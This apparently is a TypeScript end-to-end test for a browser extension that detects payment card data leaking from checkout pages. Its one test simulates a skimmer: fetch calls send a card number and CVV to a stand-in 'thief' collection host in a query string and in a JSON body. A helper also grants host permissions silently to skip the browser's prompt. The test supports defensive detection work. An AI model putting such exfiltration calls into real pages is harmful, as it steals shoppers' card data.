/** Watching a payment: what leaks is found and shown masked, what does not is not, and what was granted is given back. */
import type { Page } from 'puppeteer-core'
import { afterEach, expect, test } from 'vitest'
import { checkouts } from '../../demo/checkouts.ts'
import { otherProcessor, standIn } from '../../demo/hosts.ts'
import type { Popup } from '../../runner/session.ts'
import type { CardDataLeak } from '../../src/engine/audit/card-data-leak.ts'
import { kind, useBrowser } from './harness.ts'

const browser = useBrowser()
afterEach(async () => {
  await browser.session.closePanel()
  await browser.tidy()
  await expect.poll(granted).toEqual([])
})

const url = checkouts.find(({ slug }) => slug === 'campos-seguros')!.url
const shop = new URL(url)
const asked = kind === 'firefox' ? ['https://*/*', 'http://*/*'] : [`https://*.${shop.hostname}/*`]
const inBackground = (expression: string) => browser.session.inBackground(expression)
const granted = () => inBackground('chrome.permissions.getAll().then(({ origins }) => origins)')
const registered = () => inBackground('chrome.scripting.getRegisteredContentScripts().then((all) => all.map(({ id }) => id).sort())')

/** Nobody answers the browser's question in a test: Firefox has a preference for that, and Chromium asks nothing once a site was granted. */
async function grant(): Promise<void> {
  if (kind === 'firefox') return void (await browser.firefox.prefer('extensions.webextOptionalPermissionPrompts', false))
  const settings = await browser.session.openTab()
  await settings.goto('chrome://extensions')
  for (const site of asked)
    await settings.evaluate(`chrome.developerPrivate.addHostPermission('${browser.chromium.extension.id}', '${site}')`)
  await settings.close()
  await inBackground(`chrome.permissions.remove({ origins: ${JSON.stringify(asked)} })`)
}

const card = '4509953566233704'
const part = '[data-part="card-watch"]'

async function open(page: Page): Promise<Popup> {
  await (await browser.click(page)).popup.close()
  const { popup } = await browser.clickOn(page)
  await popup.waitForSelector(`${part} summary`)
  return popup
}

/** Begins to watch, and loads the page again. */
async function watch(page: Page): Promise<void> {
  await grant()
  const popup = await open(page)
  await popup.click(`${part} summary`)
  await popup.click('[data-part="card-watch-start"]')
  await popup.waitForSelector('[data-part="card-watch-stop"]')
  await popup.close()
  await page.reload()
}

/** Ends it, and says what came of it. */
async function finish(page: Page): Promise<CardDataLeak> {
  const { popup } = await browser.clickOn(page)
  await popup.waitForSelector('[data-part="card-watch-stop"]')
  await popup.click('[data-part="card-watch-stop"]')
  await popup.waitForSelector('[data-part="card-watch-start"]')
  await popup.close()
  const again = await browser.clickOn(page)
  await again.popup.close()
  if (!again.reply.ok) throw new Error(again.reply.problem)
  return again.reply.audit.cardDataLeak!
}

const thief = `https://${otherProcessor}/collect`

test('what leaks in a request is found', async () => {
  const page = await browser.visit(url)
  await watch(page)
  await page.evaluate(`fetch('${thief}?n=${card}', { mode: 'no-cors' }).catch(() => {})`)
  await page.evaluate(`fetch('${thief}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ card: { number: '${card}', cvv: '123' } }) }).catch(() => {})`)
  const leak = await finish(page)
  console.log(JSON.stringify(leak, null, 1))
  expect(leak).toMatchObject({ outcome: 'failed', reason: 'leaked' })
  expect(leak.findings.map(({ place, kind }) => `${place} ${kind}`).sort()).toEqual(['json code', 'json number', 'query number'])
  expect(await registered()).toEqual([])
  void standIn
})
